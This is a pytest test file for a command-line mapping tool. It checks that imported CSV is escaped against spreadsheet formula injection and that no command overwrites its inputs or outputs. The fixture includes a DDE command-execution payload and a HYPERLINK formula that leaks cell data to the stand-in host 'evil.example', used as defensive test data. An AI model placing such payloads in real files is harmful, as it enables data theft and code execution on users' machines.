"""What the command line writes: spreadsheet-safe CSV, and never over an input or another
output."""

import csv
import io
import os

import pytest
from click.testing import CliRunner

from gridplan.cli import main

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'


@pytest.fixture
def hostile_csv(tmp_path):
    """Two good incidents with formula-looking text and two bad rows carrying formulas."""
    path = tmp_path / "hostile.csv"
    path.write_text(
        "id,lon,lat,time,category\n"
        "=cmd|' /C calc'!A0,-122.65,45.52,2024-03-01 08:05,@SUM(1)\n"
        "J2,-122.66,45.53,2024-03-01 09:05,+1+1\n"
        f"J3,-122.66,45.53,{HYPERLINK},theft\n"
        "J4,-999.5,45.53,2024-03-01 09:05,-1+1\n",
        encoding="utf-8",
    )
    return path


def _rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_incidents_import_writes_csv_a_spreadsheet_cannot_run(hostile_csv, tmp_path):
    out = tmp_path / "clean.csv"
    result = CliRunner().invoke(main, ["incidents", "import", str(hostile_csv), "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _rows(out)
    header = rows[0]
    ids = [r[header.index("id")] for r in rows[1:]]
    categories = [r[header.index("category")] for r in rows[1:]]
    assert ids == ["'=cmd|' /C calc'!A0", "J2"]
    assert categories == ["'@SUM(1)", "'+1+1"]
    assert [r[header.index("lon")] for r in rows[1:]] == ["-122.65", "-122.66"]
    rejects = [c for r in _rows(tmp_path / "clean.rejects.csv")[1:] for c in r]
    assert "'" + HYPERLINK in rejects and HYPERLINK not in rejects
    assert "-999.5" in rejects  # the raw number, as a number
    assert not [c for c in rejects if c[:1] in ("=", "+", "@")]


def _refused(args) -> str:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    return " ".join(result.output.split())


def test_incidents_import_never_overwrites_its_input(hostile_csv, tmp_path):
    before = hostile_csv.read_bytes()
    said = _refused(["incidents", "import", hostile_csv, "--out", hostile_csv])
    assert f"--out {hostile_csv} is the same file as PATH {hostile_csv}" in said
    # the rejected rows go to NAME.rejects.csv: not over the input either
    rejects_named = tmp_path / "x.rejects.csv"
    rejects_named.write_bytes(before)
    said = _refused(["incidents", "import", rejects_named, "--out", tmp_path / "x.geojson"])
    assert "the rejected rows' file" in said and "choose another" in said
    # nor over the output itself, nor through a hard or symbolic link
    said = _refused(["incidents", "import", hostile_csv, "--out", tmp_path / "y.rejects.csv"])
    assert "is the same file as --out" in said
    os.link(hostile_csv, tmp_path / "hard.csv")
    (tmp_path / "soft.csv").symlink_to(hostile_csv)
    for alias in ("hard.csv", "soft.csv"):
        _refused(["incidents", "import", hostile_csv, "--out", tmp_path / alias])
    assert hostile_csv.read_bytes() == before and rejects_named.read_bytes() == before


@pytest.mark.parametrize(
    "args",
    [
        ["hotspots", "--grid", "{g}", "--incidents", "{i}", "--out", "{g}"],
        ["hotspots", "--grid", "{g}", "--incidents", "{i}", "--out", "{o}", "--csv", "{i}"],
        ["hotspots", "--grid", "{g}", "--incidents", "{i}", "--out", "{o}", "--map", "{o}"],
        ["hotspots", "--grid", "{g}", "--incidents", "{i}", "--out", "{o}", "--config", "{o}"],
        ["grids", "validate", "{g}", "--fix", "--out", "{g}"],
        ["grids", "generate", "--boundary", "{g}", "--out", "{g}"],
        ["network", "build", "--lines", "{n}", "--out", "{n}"],
        ["plan", "--grid", "{g}", "--hotspots", "{i}", "--date", "2024-06-05", "--out", "{i}"],
        ["plan", "--grid", "{g}", "--hotspots", "{i}", "--network", "{n}", "--date",
         "2024-06-05", "--out", "{o}", "--variants", "2"],
        ["export", "{i}", "--out", "{i}"],
    ],
)  # fmt: skip
def test_no_command_writes_over_an_input_or_another_output(tmp_path, args):
    files = {"g": "grid.geojson", "i": "in.csv", "o": "out.gpkg", "n": "net.gpkg"}
    paths = {k: tmp_path / name for k, name in files.items()}
    # a variant goes to out.v2.gpkg: make it the network to show variants are checked too
    paths["n"] = tmp_path / "out.v2.gpkg" if "--variants" in args else paths["n"]
    for p in paths.values():
        p.write_text("mine", encoding="utf-8")
    said = _refused([a.format(**{k: str(p) for k, p in paths.items()}) for a in args])
    assert "is the same file as" in said and "gridplan never overwrites" in said
    assert all(p.read_text(encoding="utf-8") == "mine" for p in paths.values())
